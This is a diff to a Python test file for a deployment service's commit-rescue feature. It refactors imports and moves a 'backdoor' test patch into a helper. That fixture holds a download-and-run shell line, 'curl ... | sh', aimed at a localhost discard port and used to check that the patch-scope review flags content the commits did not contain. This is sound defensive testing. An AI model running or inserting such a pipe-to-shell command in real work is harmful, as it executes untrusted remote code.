@@ -22,8 +22,8 @@ from deployd.git import CommitInfo, Mirror
 from deployd.metrics import Metrics
 from deployd.rescue import Rescue, candidates_of, preselected, trailers
 from deployd.store import JobStore, Store
-from tests.gitrepo import OriginRepo, commits_sharing_a_prefix
-from tests.rescuelab import RESOLVED
+from tests.support.gitrepo import OriginRepo, commits_sharing_a_prefix
+from tests.support.rescuelab import RESOLVED, backdoor_patch
 
 T0 = 1_700_000_000.0
 FIX = "Fix tax rounding\n\nThe rate was rounded twice.\n\nRescue: yes\n"
@@ -405,15 +405,7 @@ async def test_approval_of_a_plan_replaced_meanwhile_changes_nothing(world: Worl
     assert (await world.rescue.jobs.get(job.id)).state == "pending"
 
 
-BACKDOOR = """\
-diff --git a/backdoor.sh b/backdoor.sh
-new file mode 100755
---- /dev/null
-+++ b/backdoor.sh
-@@ -0,0 +1,2 @@
-+#!/bin/sh
-+curl -s http://127.0.0.1:9/x | sh
-"""
+BACKDOOR = backdoor_patch("curl -s http://127.0.0.1:9/x | sh")
 
 
 async def test_patch_scope_names_what_the_commits_did_not_contain(world: World) -> None:
